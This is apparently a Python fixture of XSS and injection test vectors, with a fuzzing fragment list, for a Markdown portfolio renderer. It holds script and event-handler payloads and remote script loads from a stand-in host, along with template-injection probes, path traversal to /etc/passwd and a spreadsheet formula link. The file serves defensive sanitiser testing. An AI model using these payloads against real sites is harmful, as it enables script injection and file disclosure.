"""The vectors, as data: what is written, and nothing of where.

Each carries ``RUN`` where it would execute: a call that marks the page, so that a browser tells if it ran.
"""

from __future__ import annotations

RUN = "window.pwned=1"
AWAY = "https://ailleurs.invalid"

VECTORS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script d'ailleurs": f'<script src="{AWAY}/a.js"></script>',
    "gestionnaire": f'<img src=x onerror="{RUN}">',
    "guillemet": f"\"'><img src=x onerror={RUN}>",
    "javascript:": f"[clic](javascript:{RUN}) <a href='javascript:{RUN}'>clic</a>",
    "javascript: nu": f"javascript:{RUN}",
    "data:": f"[clic](data:text/html,<script>{RUN}</script>) ![x](data:image/svg+xml,<svg onload={RUN}>)",
    "svg": f"<svg onload={RUN}><use href='{AWAY}/x.svg#a'/></svg>",
    "mathml": f"<math><mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></mtext></math>",
    "style": f"<style>@import '{AWAY}/a.css';*{{background:url({AWAY}/b)}}</style>",
    "accolades": f"mot *x*{{: onclick={RUN} style=position:fixed .vt-state .md-nav #__config }}",
    "titre à accolades": f"## Titre {{: #__search onmouseover={RUN} .vt-badge }}",
    "html brut": '<div class="vt-state vt-state--validee" id="__config">validée</div>',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    "base": f'<base href="{AWAY}/">',
    "form": f'<form action="{AWAY}" id="__search"><input name="query"><button>ok</button></form>',
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>' src='{AWAY}'></iframe>",
    "object": f'<object data="{AWAY}/x.swf"></object><embed src="{AWAY}/x">',
    "gabarit": "{{ config }}{% raw %}{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>{0.__class__}%(a)s@@vt-title@@",
    "image d'ailleurs": f"![x]({AWAY}/x.png) ![y](//ailleurs.invalid/y.png)",
    "clobbering": '{"base":".","search":"x.js"}\n{: #__config }\n\n## __config\n\nx\n{: #__toc name=__md_scope }',
    "badge": "**validée**{: .vt-state .vt-state--validee } !!! vt-badge",
    "bidi": "\u202eeéidilav\u202c \u2066a\u2067b\u2069 \u200f",
    "sosie": "Ѵаlіdée ｖａｌｉｄéｅ",
    "secret d'un autre": "[là](../../secret/realisations/secret.md) ![là](../../secret/fichiers/secret.png)",
    "hors du portfolio": "[là](../../../../../../etc/passwd) [ici](%2e%2e/%2e%2e/etablissement.yml) [la](file:///etc/passwd)",
    "note": f"n[^1]\n\n[^1]: <img src=x onerror={RUN}>{{: onclick={RUN} }}",
    "abréviation": f'ABR\n\n*[ABR]: "><script>{RUN}</script>',
    "code": f'```html "><script>{RUN}</script>\n<script>{RUN}</script>\n```',
    "onglet": f'=== "<img src=x onerror={RUN}>"\n    a\n\n??? note "<script>{RUN}</script>"\n    b',
    "tableau": f"|<script>{RUN}</script>|b|\n|-|-|\n|<img src=x onerror={RUN}>|{{: onclick={RUN} }}|",
    "référence": f"[a][b] ![c][d]\n\n[b]: javascript:{RUN}\n[d]: {AWAY}/d.png",
    "entités": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; [a](&#106;avascript&#58;{RUN})",
    "fin de gabarit": f"</title></textarea></style></script></article></main><script>{RUN}</script><!--",
    "formule": f'=HYPERLINK("{AWAY}","clic")',
    "commandes": "a\x1b[31mb\x07c\x1e" + AWAY + "\x1fd\x0be",
}

PIECES: tuple[str, ...] = (
    *VECTORS.values(), "[", "![a](", "- ", "> ", "    ", "\t", "`", "```", "~~~", "|", "|-|-|\n", "*", "_",
    "**", "^^", "~~", "==", "++", "++ctrl+", "[^1]", "[^1]: ", "*[A]: ", "!!! note\n", "??? note\n",
    '=== "a"\n', ": ", "# ", "\n---\n", "---\n", "<!--", "-->", "<kbd>", "</kbd>", "<br>", "&#2;", "\x02",
    "\x03", "\x02wzxhzdk:0\x03", "{: ", "}", "{: .a #b c=d }", "\\", "\u2028", "\x85", "\ufeff", "\u202e",
    "\xe9", "\U0001f600", "titre: ", "comp\xe9tences: ", "{", "}", ": ", "- - ", "&a ", "*a ", "<<: ", "!!x ",
    "? ", "| \n", "> \n", "'", '"', '"\\x1f"', '"\\ud800"', "1.10", "12/01/2026", "du 1 au 2", "9" * 30, "\r",
    "\r\n", "\x00", "[a]: ", "<http://a>", "http://a.fr", "- [x] ", "1. ", "</h2>", "<a@b.fr>", '```a b="c" ',
)  # fmt: skip
"""What fuzzing pastes."""
